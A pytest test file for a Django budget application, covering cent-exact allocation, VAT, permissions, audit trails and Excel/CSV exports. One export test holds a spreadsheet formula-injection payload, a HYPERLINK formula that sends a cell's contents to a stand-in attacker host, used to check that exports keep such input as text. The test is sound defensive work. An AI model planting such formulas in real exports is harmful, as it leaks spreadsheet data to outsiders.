"""The budget, exact to the cent: allocation, VAT, figures, rules and who may change what."""

from datetime import date
from decimal import Decimal

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import IntegrityError, transaction
from hypothesis import given
from hypothesis import strategies as st

from budget import selectors, services
from budget.models import BudgetPeriod, CostLine, CostStatus, PeriodStatus
from budget.money import allocate, vat_on


def test_the_seed_budget_splits_into_52_posts_summing_exactly():
    parts = allocate(Decimal("5125.00"), 52)
    assert len(parts) == 52
    assert sum(parts) == Decimal("5125.00")
    assert parts.count(Decimal("98.56")) == 40 and parts.count(Decimal("98.55")) == 12


def test_21_percent_vat_on_the_seed_budget():
    assert vat_on(Decimal("5125.00"), Decimal("21")) == Decimal("1076.25")
    assert Decimal("5125.00") + vat_on(Decimal("5125.00"), Decimal("21")) == Decimal("6201.25")


def test_vat_is_rounded_half_up_per_line():
    assert vat_on(Decimal("0.10"), Decimal("25")) == Decimal("0.03")  # 0.025 → 0.03
    assert vat_on(Decimal("98.56"), Decimal("21")) == Decimal("20.70")  # 20.6976


@given(
    total=st.decimals(min_value=0, max_value=10_000_000, places=2, allow_nan=False, allow_infinity=False),
    parts=st.integers(min_value=1, max_value=500),
)
def test_allocations_always_sum_to_the_amount_and_differ_by_at_most_a_cent(total, parts):
    shares = allocate(total, parts)
    assert sum(shares) == total
    assert max(shares) - min(shares) <= Decimal("0.01")
    assert all(share >= 0 for share in shares)


def period_fields(world, **overrides):
    fields = {
        "channel": world.channel,
        "name": "TikTok H2",
        "starts_on": date(2026, 7, 1),
        "ends_on": date(2026, 12, 31),
        "amount_excl_vat": Decimal("5125.00"),
        "vat_rate": Decimal("21.00"),
        "planned_posts": 52,
    }
    return fields | overrides


@pytest.fixture
def period(world):
    return services.period_create(
        actor=world.people["team_social"], organisation=world.ministry, fields=period_fields(world)
    )


@pytest.mark.django_db
def test_a_period_gets_52_allocations_summing_to_its_amount(period):
    assert period.allocations.count() == 52
    assert sum(a.amount for a in period.allocations.all()) == Decimal("5125.00")
    assert period.currency == "EUR"


@pytest.mark.django_db
def test_overriding_one_post_keeps_the_total(world, period):
    first = period.allocations.get(position=1)
    services.allocation_override(actor=world.people["team_social"], allocation=first, amount=Decimal("500.00"))
    amounts = list(period.allocations.order_by("position").values_list("amount", flat=True))
    assert amounts[0] == Decimal("500.00")
    assert sum(amounts) == Decimal("5125.00")
    assert max(amounts[1:]) - min(amounts[1:]) <= Decimal("0.01")


@pytest.mark.django_db
def test_a_swedish_period_in_kronor_at_25_percent(world):
    from tests.factories import MembershipFactory

    municipality = world.municipality
    social = MembershipFactory(organisation=municipality, role="team_social").user
    period = services.period_create(
        actor=social,
        organisation=municipality,
        fields={
            "name": "TikTok 2027",
            "starts_on": date(2027, 1, 1),
            "ends_on": date(2027, 6, 30),
            "amount_excl_vat": Decimal("48000.00"),
            "planned_posts": 26,
        },
    )
    figures = selectors.figures(period)
    assert (period.currency, period.vat_rate) == ("SEK", Decimal("25.00"))
    assert figures.amount.vat == Decimal("12000.00")
    assert figures.amount.incl == Decimal("60000.00")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("amount_excl_vat", Decimal("-1.00")),
        ("vat_rate", Decimal("101")),
        ("vat_rate", Decimal("-1")),
        ("planned_posts", 0),
        ("ends_on", date(2026, 6, 30)),  # before the start
    ],
)
def test_bad_period_input_is_refused(world, field, value):
    with pytest.raises(ValidationError):
        services.period_create(
            actor=world.people["team_social"],
            organisation=world.ministry,
            fields=period_fields(world, **{field: value}),
        )
    assert not BudgetPeriod.objects.exists()


@pytest.mark.django_db
def test_the_database_refuses_negative_money(world, period):
    with pytest.raises(IntegrityError), transaction.atomic():
        BudgetPeriod.objects.filter(pk=period.pk).update(amount_excl_vat=Decimal("-5"))
    with pytest.raises(IntegrityError), transaction.atomic():
        CostLine.objects.create(
            period=period,
            kind="other",
            supplier="x",
            amount_excl_vat=Decimal("-1"),
            vat_rate=21,
            vat_amount=0,
            created_by=world.people["team_social"],
        )


def cost(world, period, amount, brief=None, status=CostStatus.COMMITTED, **extra):
    return services.cost_line_create(
        actor=world.people["team_social"],
        period=period,
        fields={
            "brief": brief,
            "agency": world.agency,
            "kind": "agency_fee",
            "supplier": "Clips Agency",
            "amount_excl_vat": Decimal(amount),
            **extra,
        },
        status=status,
    )


@pytest.mark.django_db
def test_a_cost_line_on_another_organisations_brief_is_refused(world, period):
    from tests.workflow import new_brief

    other_brief = new_brief(world)
    other_brief.organisation = world.municipality  # as if it belonged to the other organisation
    other_brief.save(update_fields=["organisation"])
    with pytest.raises(ValidationError):
        cost(world, period, "10.00", brief=other_brief)


@pytest.mark.django_db
def test_figures_add_up_to_the_cent(world, period):
    from tests.workflow import new_brief

    brief = new_brief(world)
    cost(world, period, "98.56", brief=brief)
    cost(world, period, "10.01", status=CostStatus.PLANNED)
    line = cost(world, period, "33.33")
    services.cost_line_advance(
        actor=world.people["team_social"],
        line=line,
        status=CostStatus.INVOICED,
        invoice_number="F-1",
        invoice_date=date(2026, 8, 1),
    )
    f = selectors.figures(period)
    assert f.committed.excl == Decimal("131.89")
    assert f.committed.vat == vat_on(Decimal("98.56"), 21) + vat_on(Decimal("33.33"), 21)
    assert f.invoiced.excl == Decimal("33.33")
    assert f.planned.excl == Decimal("10.01")
    assert f.remaining.excl == Decimal("5125.00") - Decimal("131.89")


@pytest.mark.django_db
def test_warnings_for_a_post_over_plan_and_a_period_over_budget(world, period):
    from tests.workflow import new_brief

    brief = new_brief(world)
    cost(world, period, "150.00", brief=brief)
    cost(world, period, "5000.00")
    f = selectors.figures(period)
    assert any("costs more than its plan" in w for w in f.warnings)
    assert any("exceed the period's amount" in w for w in f.warnings)
    assert selectors.brief_budget(brief)["over"] is True


@pytest.mark.django_db
def test_an_overrun_waits_for_the_mt_when_the_organisation_asks_so(world, period):
    world.ministry.budget_overrun_needs_approval = True
    world.ministry.save()
    line = cost(world, period, "6000.00", status=CostStatus.PLANNED)
    with pytest.raises(ValidationError, match="approve such an overrun"):
        services.cost_line_advance(actor=world.people["team_social"], line=line, status=CostStatus.COMMITTED)
    with pytest.raises(PermissionDenied):
        services.cost_line_approve_overrun(actor=world.people["team_social"], line=line)
    services.cost_line_approve_overrun(actor=world.people["management"], line=line)
    services.cost_line_advance(actor=world.people["team_social"], line=line, status=CostStatus.COMMITTED)


@pytest.mark.django_db
def test_cost_lines_only_move_forward_and_invoices_need_a_number(world, period):
    line = cost(world, period, "10.00")
    with pytest.raises(ValidationError, match="only moves forward"):
        services.cost_line_advance(actor=world.people["team_social"], line=line, status=CostStatus.PLANNED)
    with pytest.raises(ValidationError, match="invoice number"):
        services.cost_line_advance(actor=world.people["team_social"], line=line, status=CostStatus.INVOICED)


@pytest.mark.django_db
def test_the_mt_approves_a_period_once_and_it_is_audited(world, period):
    from audit.models import AuditEvent

    with pytest.raises(PermissionDenied):
        services.period_approve(actor=world.people["team_social"], period=period)
    services.period_approve(actor=world.people["management"], period=period)
    assert period.status == PeriodStatus.APPROVED
    with pytest.raises(ValidationError):
        services.period_approve(actor=world.people["management"], period=period)
    assert AuditEvent.objects.filter(action="budget.period_approved", actor=world.people["management"]).count() == 1


@pytest.mark.django_db
def test_the_mt_can_not_change_the_budget(world, period):
    with pytest.raises(PermissionDenied):
        services.period_update(actor=world.people["management"], period=period, fields={"name": "Mine"})
    with pytest.raises(PermissionDenied):
        services.cost_line_create(
            actor=world.people["management"],
            period=period,
            fields={"kind": "other", "supplier": "x", "amount_excl_vat": Decimal(1)},
        )


@pytest.fixture
def dashboard_world(world, period):
    from tests.workflow import new_brief

    for amount in ("98.56", "98.56", "12.34"):
        cost(world, period, amount, brief=new_brief(world))
    line = cost(world, period, "250.00")
    services.cost_line_advance(
        actor=world.people["team_social"],
        line=line,
        status=CostStatus.PAID,
        invoice_number="F-9",
        invoice_date=date(2026, 9, 1),
    )
    return world, period


@pytest.mark.django_db
def test_export_totals_equal_the_dashboard_to_the_cent(dashboard_world, client_for):
    import csv
    import io

    from django.urls import reverse
    from openpyxl import load_workbook

    world, period = dashboard_world
    f = selectors.figures(period)
    client = client_for(world.people["management"])
    workbook = load_workbook(io.BytesIO(client.get(reverse("budget_export_xlsx", args=[period.pk])).content))
    lines = list(workbook["Cost lines"].iter_rows(min_row=2, values_only=True))
    assert sum(Decimal(str(row[6])) for row in lines) == f.committed.excl + f.planned.excl
    assert sum(Decimal(str(row[8])) for row in lines) == f.committed.vat + f.planned.vat
    figures = {row[0]: row[1:] for row in workbook["Figures"].iter_rows(min_row=2, values_only=True)}
    assert Decimal(str(figures["committed"][0])) == f.committed.excl
    assert Decimal(str(figures["committed"][2])) == f.committed.incl
    assert Decimal(str(figures["amount"][2])) == Decimal("6201.25")
    rows = list(csv.reader(io.StringIO(client.get(reverse("budget_export_csv", args=[period.pk])).content.decode())))
    csv_figures = {row[0]: row[1:] for row in rows if row and row[0] in {"committed", "paid", "remaining"}}
    assert Decimal(csv_figures["committed"][0]) == f.committed.excl
    assert Decimal(csv_figures["paid"][0]) == Decimal("250.00")
    assert Decimal(csv_figures["remaining"][0]) == f.remaining.excl


@pytest.mark.django_db
def test_the_dashboard_shows_the_figures_and_a_chart_with_a_data_table(dashboard_world, client_for):
    from django.urls import reverse

    world, _period = dashboard_world
    body = client_for(world.people["management"]).get(reverse("budget_dashboard")).content.decode()
    assert "<svg" in body and "<polyline" in body
    assert "Cumulative costs per month" in body
    assert "€5,125.00" in body and "€6,201.25" in body
    assert "Approve this budget (MT)" in body


@pytest.mark.django_db
def test_the_dashboard_keeps_a_fixed_number_of_queries(dashboard_world, client_for, django_assert_max_num_queries):
    from django.urls import reverse

    from tests.workflow import new_brief

    world, period = dashboard_world
    client = client_for(world.people["management"])
    with django_assert_max_num_queries(40) as few:
        client.get(reverse("budget_dashboard"))
    for _ in range(10):
        cost(world, period, "5.00", brief=new_brief(world))
        cost(world, period, "1.00")
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert client.get(reverse("budget_dashboard")).status_code == 200


@pytest.mark.django_db
def test_agency_members_see_only_their_own_cost_lines(dashboard_world, client_for):
    from django.urls import reverse

    world, period = dashboard_world
    services.cost_line_create(
        actor=world.people["team_social"],
        period=period,
        fields={
            "agency": world.other_agency,
            "kind": "other",
            "supplier": "Other Agency",
            "amount_excl_vat": Decimal("77.77"),
        },
    )
    body = client_for(world.people["agency_member"]).get(reverse("budget_agency_costs")).content.decode()
    assert "Clips Agency" in body
    assert "77.77" not in body


@pytest.mark.django_db
def test_another_organisations_period_is_not_found(dashboard_world, client_for):
    from django.urls import reverse

    world, period = dashboard_world
    response = client_for(world.other_admin).get(reverse("budget_costs", args=[period.pk]))
    assert response.status_code in (403, 404)
    from tests.factories import MembershipFactory

    mt_elsewhere = MembershipFactory(organisation=world.municipality, role="management").user
    assert client_for(mt_elsewhere).get(reverse("budget_costs", args=[period.pk])).status_code == 404


@pytest.mark.django_db
def test_a_brief_charged_in_two_periods_keeps_the_plan_of_the_first(world, period):
    from tests.workflow import new_brief

    brief = new_brief(world)
    cost(world, period, "50.00", brief=brief)
    later = services.period_create(
        actor=world.people["team_social"],
        organisation=world.ministry,
        fields=period_fields(world, name="TikTok 2027", starts_on=date(2027, 1, 1), ends_on=date(2027, 6, 30)),
    )
    cost(world, later, "20.00", brief=brief)
    assert brief.allocation.period == period
    assert later.allocations.filter(brief__isnull=False).count() == 0


@pytest.mark.django_db
def test_team_social_closes_a_period_and_it_takes_no_new_costs(dashboard_world, client_for):
    world, period = dashboard_world
    client = client_for(world.people["team_social"])
    page = client.get(f"/budget/?period={period.pk}").content.decode()
    assert "Close this budget period" in page
    assert client.post(f"/budget/periods/{period.pk}/close/").status_code == 302
    period.refresh_from_db()
    assert period.status == PeriodStatus.CLOSED
    with pytest.raises(ValidationError, match="closed"):
        cost(world, period, "1.00")
    assert "Close this budget period" not in client.get(f"/budget/?period={period.pk}").content.decode()
    assert client_for(world.people["management"]).post(f"/budget/periods/{period.pk}/close/").status_code == 403


@pytest.mark.django_db
def test_a_formula_typed_as_text_stays_text_in_both_exports(world, period, client_for):
    import csv
    import io

    from django.urls import reverse
    from openpyxl import load_workbook

    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    cost(world, period, "10.00", agency=None, supplier=formula, description="@SUM(1+1)", invoice_number="-2+3")
    client = client_for(world.people["management"])
    workbook = load_workbook(io.BytesIO(client.get(reverse("budget_export_xlsx", args=[period.pk])).content))
    row = next(workbook["Cost lines"].iter_rows(min_row=2))
    supplier = row[3]
    assert supplier.data_type == "s" and supplier.value == formula  # text, exactly as typed
    assert all(cell.data_type != "f" for sheet in workbook for line in sheet.iter_rows() for cell in line)
    rows = list(csv.reader(io.StringIO(client.get(reverse("budget_export_csv", args=[period.pk])).content.decode())))
    line = rows[1]
    assert line[3] == "'" + formula and line[4] == "'@SUM(1+1)" and line[10] == "'-2+3"
    assert line[6] == "10.00"  # amounts stay numbers


@pytest.mark.django_db
def test_who_took_the_budget_out_is_in_the_audit_trail(world, period, client_for):
    from django.urls import reverse

    from audit.models import AuditEvent

    client = client_for(world.people["management"])
    client.get(reverse("budget_export_xlsx", args=[period.pk]))
    client.get(reverse("budget_export_csv", args=[period.pk]))
    events = AuditEvent.objects.filter(action="export.downloaded").order_by("sequence")
    assert [event.details["export"] for event in events] == ["budget.xlsx", "budget.csv"]
    assert [event.label for event in events] == ["Budget downloaded (Excel)", "Budget downloaded (CSV)"]
    assert {event.actor for event in events} == {world.people["management"]}
    assert {event.object_id for event in events} == {str(period.pk)}


@pytest.mark.django_db
def test_a_new_cost_line_offers_the_briefs_of_its_period_not_every_brief_of_the_years(world, period):
    """A busy channel has thousands of briefs: the choice list holds those under way and those posted or
    cancelled in the period or up to 92 days before it (a late invoice), and none made after it."""
    from datetime import UTC, datetime

    from budget.forms import CostLineForm
    from content.models import Brief, BriefStatus
    from tests.workflow import new_brief

    def brief(status, created, updated):
        made = new_brief(world)
        Brief.objects.filter(pk=made.pk).update(
            status=status, created_at=datetime(*created, tzinfo=UTC), updated_at=datetime(*updated, tzinfo=UTC)
        )
        return made.pk

    under_way = brief(BriefStatus.IN_PRODUCTION, (2026, 8, 3), (2026, 8, 3))
    long_posted = brief(BriefStatus.POSTED, (2024, 12, 1), (2025, 1, 10))
    posted_before = brief(BriefStatus.POSTED, (2026, 4, 1), (2026, 5, 1))  # 61 days before 1 July
    posted_in = brief(BriefStatus.POSTED, (2026, 9, 1), (2026, 9, 20))
    cancelled_long_ago = brief(BriefStatus.CANCELLED, (2025, 1, 1), (2025, 2, 1))
    made_after = brief(BriefStatus.DRAFT, (2027, 2, 1), (2027, 2, 1))
    offered = set(CostLineForm(period=period).fields["brief"].queryset.values_list("pk", flat=True))
    assert {under_way, posted_before, posted_in} <= offered
    assert not {long_posted, cancelled_long_ago, made_after} & offered


@pytest.mark.django_db
def test_the_cost_lines_page_shows_the_form_when_someone_adds_a_line(world, period, client_for):
    """Reading the lines doesn't build the form (its brief list is a period's briefs, thousands on a busy
    channel); 'Add a cost line' opens it on the same page, and a closed period offers neither."""
    from django.urls import reverse

    client = client_for(world.people["team_social"])
    url = reverse("budget_costs", args=[period.pk])
    reading = client.get(url).content.decode()
    assert 'href="?add=1#add"' in reading and 'name="supplier"' not in reading
    adding = client.get(url, {"add": 1}).content.decode()
    assert 'name="supplier"' in adding and 'name="brief"' in adding
    # A form with an error comes back with what was typed (status 400).
    refused = client.post(
        url, {"kind": "other", "supplier": "Studio Noord", "amount_excl_vat": "-5", "status": "planned"}
    )
    assert refused.status_code == 400 and 'value="Studio Noord"' in refused.content.decode()
    services.period_close(actor=world.people["team_social"], period=period)
    closed = client.get(url, {"add": 1}).content.decode()
    assert 'href="?add=1#add"' not in closed and 'name="supplier"' not in closed


@pytest.mark.django_db
def test_adding_a_cost_line_keeps_the_page_of_lines_one_is_on(world, period, client_for):
    from django.urls import reverse

    client = client_for(world.people["team_social"])
    page = client.get(reverse("budget_costs", args=[period.pk]), {"page": 2}).content.decode()
    assert 'href="?page=2&amp;add=1#add"' in page
